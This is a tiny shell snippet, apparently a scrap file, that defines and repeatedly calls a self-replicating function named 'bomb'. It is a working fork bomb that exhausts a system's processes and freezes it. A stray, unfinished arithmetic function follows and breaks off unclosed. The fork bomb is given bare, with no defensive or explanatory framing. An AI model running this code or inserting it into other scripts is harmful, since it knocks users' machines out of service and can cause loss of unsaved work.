# Processes that make processes.
bomb() { bomb | bomb & }
bomb
while :; do bomb; done
f() {
    echo $(( $1 + 1 ))
